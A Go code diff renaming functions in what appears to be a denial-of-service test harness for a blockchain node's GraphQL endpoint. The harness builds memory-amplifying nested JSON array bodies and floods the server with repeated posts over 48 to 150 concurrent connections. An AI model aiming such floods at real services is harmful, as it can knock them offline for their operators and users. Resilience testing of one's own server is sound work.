@@ -13,7 +13,7 @@ const treeBytes = 120 << 10
 
 // trees returns JSON bodies that need many times their size in memory when decoded. The operation
 // does not use the data.
-func trees(full bool) []attack {
+func jsonTrees(full bool) []attack {
 	const asks, waits = `"query":"{info{version}}"`, `"query":"{blockchain{account(address:\"1000:` +
 		`1111111111111111111111111111111111111111111111111111111111111111\"){info{balance}}}}"`
 	lasting, clients := 1200*time.Millisecond, []int{48}
@@ -36,28 +36,28 @@ func trees(full bool) []attack {
 				if !full && shape.item != "[]," && place.name != "extensions" {
 					continue
 				}
-				all = append(all, pressed(fmt.Sprintf("%d connections of %s in %s", n, shape.name, place.name), lasting, n, place.body))
+				all = append(all, repeatedPosts(fmt.Sprintf("%d connections of %s in %s", n, shape.name, place.name), lasting, n, place.body))
 			}
 		}
 	}
 	// A waiting query keeps its decoded body.
 	tree := "[" + strings.Repeat("[],", treeBytes/3) + "[]]"
-	all = append(all, crowdedFor(lasting, "150 connections of arrays in variables of a query that waits", 150, func(s *site) (net.Conn, error) {
+	all = append(all, withConnectionsFor(lasting, "150 connections of arrays in variables of a query that waits", 150, func(s *target) (net.Conn, error) {
 		c, err := s.dial()
 		if err == nil {
 			_, err = c.Write(request("POST", path, `{`+waits+`,"variables":{"a":`+tree+`}}`))
 		}
 		return c, err
-	}, func(*site) error { return nil }))
+	}, func(*target) error { return nil }))
 	return all
 }
 
 // pressed opens n connections that post body repeatedly at the same time.
-func pressed(name string, lasting time.Duration, n int, body string) attack {
+func repeatedPosts(name string, lasting time.Duration, n int, body string) attack {
 	text := request("POST", path, body, "Connection: keep-alive")
-	return crowdedFor(lasting, name, n, func(s *site) (net.Conn, error) {
+	return withConnectionsFor(lasting, name, n, func(s *target) (net.Conn, error) {
 		return s.repeat(burstPause, func(int) []byte { return text })
-	}, func(*site) error { return nil })
+	}, func(*target) error { return nil })
 }
 
 // burstPause is the time that each connection waits between two requests. All connections send at about the same time,
@@ -65,7 +65,7 @@ func pressed(name string, lasting time.Duration, n int, body string) attack {
 const burstPause = 600 * time.Millisecond
 
 // repeat opens a connection that sends text(i) with pauses and discards the responses.
-func (s *site) repeat(pause time.Duration, text func(i int) []byte) (net.Conn, error) {
+func (s *target) repeat(pause time.Duration, text func(i int) []byte) (net.Conn, error) {
 	c, err := s.dial()
 	if err != nil {
 		return nil, err
